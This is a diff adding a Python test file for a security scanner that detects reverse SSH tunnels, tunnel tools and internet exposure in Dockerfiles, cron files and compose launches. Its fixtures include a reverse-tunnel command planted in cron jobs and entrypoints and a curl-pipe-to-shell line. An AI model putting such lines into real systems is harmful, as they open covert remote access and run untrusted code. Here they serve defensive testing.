@@ -1,0 +1,272 @@
+"""What is looked at in a repository, where files would lie in an image, and what launches allow."""
+
+import io
+import os
+import tarfile
+from pathlib import Path
+
+import pytest
+
+import scanner
+from scanner.checking import check
+from scanner.errors import LimitError, UsageError
+from scanner.model import LaunchLocation, Level, Severity, Traced
+from tests.checking.repository import git, said, tracked, written
+
+TUNNEL = "ssh -N -R 2222:localhost:22 u@h.example\n"
+SCRIPT = "#!/bin/sh\n" + TUNNEL
+
+
+# ---- where files lie in an image
+
+
+def test_a_copied_file_counts_as_what_it_becomes(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "Dockerfile": "FROM debian:12\nWORKDIR /etc\nCOPY conf/jobs cron.d/\n",
+            "conf/jobs/nightly": f"* * * * * root {TUNNEL}",
+            "other/nightly": f"* * * * * root {TUNNEL}",
+        },
+    )
+    assert said(check([root])) == {("tunnel/reverse-ssh", "conf/jobs/nightly", 1, "critical")}
+
+
+def test_what_an_entrypoint_starts_runs_with_the_sandbox(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "docker/Dockerfile": 'FROM debian:12\nCOPY tools/x.sh /x\nENTRYPOINT ["/x"]\n',
+            "tools/x.sh": SCRIPT,
+            "tools/y.sh": SCRIPT,
+        },
+    )
+    assert said(check([root])) == {
+        ("tunnel/reverse-ssh", "tools/x.sh", 2, "critical"),
+        ("tunnel/reverse-ssh", "tools/y.sh", 2, "high"),
+    }
+
+
+def test_the_first_folder_that_has_the_source_is_the_context(tmp_path: Path) -> None:
+    job = f"* * * * * root {TUNNEL}"
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "a/Dockerfile": "FROM debian:12\nCOPY jo? /etc/cron.d/\n",
+            "a/job": "# nothing\n",
+            "job": job,
+        },
+    )
+    assert said(check([root])) == set()
+    (root / "a/job").unlink()
+    assert said(check([root])) == {("tunnel/reverse-ssh", "job", 1, "critical")}
+
+
+def test_a_folder_written_like_a_root_is_one(tmp_path: Path) -> None:
+    root = written(tmp_path, {".git/HEAD": "", "docker/rootfs/etc/cron.d/x": f"* * * * * root {TUNNEL}"})
+    assert said(check([root])) == {("tunnel/reverse-ssh", "docker/rootfs/etc/cron.d/x", 1, "critical")}
+
+
+def test_a_script_that_a_build_runs_is_followed(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "Dockerfile": "FROM debian:12\nCOPY setup.sh /tmp/\nRUN bash /tmp/setup.sh\n",
+            "setup.sh": "#!/bin/bash\nset -e\napt-get install -y \\\n  autossh\n",
+        },
+    )
+    [finding] = check([root]).findings
+    assert (finding.rule_id, finding.source and (finding.source.file, finding.source.line)) == (
+        "build/tunnel-tool",
+        ("setup.sh", 4),
+    )
+    assert "setup.sh, which RUN runs" in finding.message
+
+
+def test_a_stage_that_no_image_is_made_from_counts_one_step_less(tmp_path: Path) -> None:
+    text = f"FROM debian:12 AS dev\nRUN {TUNNEL}FROM debian:12\nRUN true\n"
+    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": text})
+    assert said(check([root])) == {("tunnel/reverse-ssh", "Dockerfile", 2, "medium")}
+
+
+def test_the_same_line_is_told_once(tmp_path: Path) -> None:
+    """The script lies in the repository, in the image and on the way of the entry point."""
+    root = written(
+        tmp_path,
+        {".git/HEAD": "", "Dockerfile": 'FROM debian:12\nCOPY . /app\nCMD ["/app/run.sh"]\n', "run.sh": SCRIPT},
+    )
+    [finding] = check([root]).findings
+    assert finding.locations[0] == LaunchLocation("run.sh", 2)
+    assert finding.source is not None
+    assert finding.source.how is Traced.GIVEN
+    assert finding.severity is Severity.CRITICAL
+
+
+def test_fingerprints_hold_whatever_else_changes(tmp_path: Path) -> None:
+    before = {"Dockerfile": "FROM debian:12\nRUN curl https://a.example/x | sh\nRUN " + TUNNEL, ".git/HEAD": ""}
+    after = {
+        "Dockerfile": "# more\n\n" + before["Dockerfile"],
+        ".git/HEAD": "",
+        "other/Dockerfile": before["Dockerfile"],
+    }
+    prints = []
+    for name, files in (("one", before), ("two", after)):
+        report = check([written(tmp_path / name, files)])
+        prints.append({f.fingerprint: f.source.file for f in report.findings if f.source})
+        assert len(prints[-1]) == len(report.findings)
+    assert set(prints[0]) < set(prints[1])
+    assert {prints[1][one] for one in prints[0]} == {"Dockerfile"}
+
+
+# ---- which files
+
+
+def test_git_says_what_belongs_to_a_repository(tmp_path: Path) -> None:
+    root = tracked(written(tmp_path, {".gitignore": "build/\n*.log\n", "a.sh": SCRIPT, "b/c.sh": SCRIPT}))
+    written(root, {"new.sh": SCRIPT, "build/d.sh": SCRIPT, "e.log": SCRIPT})
+    (root / "b/c.sh").unlink()
+    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh", "new.sh"}
+    assert {file for _, file, _, _ in said(check([root / "build/d.sh"]))} == {"build/d.sh"}
+
+
+def test_a_repository_cannot_make_git_run_anything(tmp_path: Path) -> None:
+    root = tracked(written(tmp_path / "r", {"a.sh": SCRIPT}))
+    hook = written(tmp_path, {"hook": f"#!/bin/sh\ntouch {tmp_path}/ran\n"}) / "hook"
+    hook.chmod(0o755)
+    git(root, "config", "core.fsmonitor", str(hook))
+    git(root, "config", "core.hooksPath", str(tmp_path))
+    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh"}
+    assert not (tmp_path / "ran").exists()
+
+
+def test_without_git_everything_is_walked_but_what_others_put_there(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = written(
+        tmp_path, {"a.sh": SCRIPT, "node_modules/x/b.sh": SCRIPT, ".git/HEAD": "ref", "c/.hidden/d.sh": SCRIPT}
+    )
+    monkeypatch.setenv("PATH", "")
+    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh", "c/.hidden/d.sh"}
+
+
+def test_no_link_is_followed_out(tmp_path: Path) -> None:
+    outside = written(tmp_path / "out", {"x.sh": SCRIPT, "f/y.sh": SCRIPT})
+    root = written(tmp_path / "in", {".git/HEAD": "", "a.txt": "nothing\n"})
+    (root / "x.sh").symlink_to(outside / "x.sh")
+    (root / "f").symlink_to(outside / "f")
+    os.mkfifo(root / "pipe.sh")
+    assert said(check([root])) == set()
+
+
+def test_names_are_from_the_repositorys_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    root = written(tmp_path, {".git/HEAD": "", "a/b/x.sh": SCRIPT})
+    monkeypatch.chdir(root / "a/b")
+    assert {file for _, file, _, _ in said(scanner.check("x.sh"))} == {"a/b/x.sh"}
+    assert {file for _, file, _, _ in said(scanner.check())} == {"a/b/x.sh"}
+
+
+def test_nothing_to_look_at_is_no_clean_result(tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match="nothing to look at"):
+        check([tmp_path / "absent"])
+    with pytest.raises(UsageError, match="no file to look at"):
+        check([tmp_path])
+
+
+def test_what_cannot_be_read_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("scanner.checking.picking.LARGEST", 1000)
+    report = check([written(tmp_path, {".git/HEAD": "", "a.sh": SCRIPT, "big": "x" * 1001})])
+    assert [(n.path, n.level) for n in report.notifications] == [(b"big", Level.WARNING)]
+    assert not report.complete
+    monkeypatch.setattr("scanner.checking.picking.FILES", 1)
+    with pytest.raises(LimitError, match="name a part of it"):
+        check([tmp_path])
+
+
+def test_a_file_that_is_no_text_is_looked_at_as_in_an_image(tmp_path: Path) -> None:
+    packed = io.BytesIO()
+    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
+        archive.add(written(tmp_path / "out", {"job.sh": SCRIPT}) / "job.sh", "opt/job.sh")
+    root = written(tmp_path / "in", {".git/HEAD": "", "x.tgz": packed.getvalue()})
+    [finding] = check([root]).findings
+    assert finding.locations[0].display == b"x.tgz!/opt/job.sh"
+    assert finding.source is not None
+    assert finding.source.file == "x.tgz"
+
+
+# ---- launches
+
+
+COMPOSE = "services:\n  agent:\n    image: a\n"
+
+
+def test_launches_of_a_repository_are_judged_each_by_itself(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "one/compose.yaml": COMPOSE,
+            "one/compose.override.yaml": "services:\n  agent:\n    network_mode: none\n",
+            "two/docker-compose.yml": COMPOSE,
+            "three/.devcontainer/devcontainer.json": '{"image": "a", "runArgs": ["--network=none"]}',
+            "values.yaml": "replicas: 2\nname: x\n",
+            "package.json": '{"name": "x"}',
+        },
+    )
+    report = check([root])
+    assert {f.source.file for f in report.findings if f.source} == {"two/docker-compose.yml"}
+    assert {f.source.line for f in report.findings if f.source} == {2}
+    assert "egress/internet" in {f.rule_id for f in report.findings}
+    assert report.complete, report.notifications
+    assert report.statistics["launches"] == 4
+
+
+def test_a_further_compose_file_is_put_on_top_of_the_project(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "compose.yaml": "services:\n  agent:\n    image: a\n    network_mode: none\n",
+            "compose.prod.yaml": "services:\n  agent:\n    privileged: true\n",
+        },
+    )
+    report = check([root])
+    assert report.complete, report.notifications
+    assert {f.source.file for f in report.findings if f.source} <= {"compose.yaml", "compose.prod.yaml"}
+
+
+def test_one_broken_launch_is_told_and_stops_nothing(tmp_path: Path) -> None:
+    root = written(
+        tmp_path,
+        {
+            ".git/HEAD": "",
+            "a/compose.yaml": "services:\n  x:\n    image: a\n    ports: {}: 1\n",
+            "b/compose.yaml": COMPOSE,
+            "c/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: [\n",
+            "d.yaml": "{{ not yaml }}: [\n",
+        },
+    )
+    report = check([root])
+    assert {f.source.file for f in report.findings if f.source} == {"b/compose.yaml"}
+    assert {n.path for n in report.notifications if n.incomplete} >= {b"a/compose.yaml", b"c/pod.yaml"}
+    assert b"d.yaml" not in {n.path for n in report.notifications}
+
+
+# ---- this repository
+
+
+def test_this_repository_is_clean_but_for_what_tests_and_the_replay_do() -> None:
+    """Its tests open tunnels for real, its fixtures are launches of the incident: nothing else may be found."""
+    root = Path(__file__).resolve().parents[2]
+    report = check(
+        [
+            root / name
+            for name in (".github", ".ci", "scanner", "docs", "rules", "README.md", "pyproject.toml")
+            if (root / name).exists()
+        ]
+    )
+    assert [f for f in report.findings if f.severity.rank >= Severity.MEDIUM.rank] == []
+    assert report.complete, report.notifications
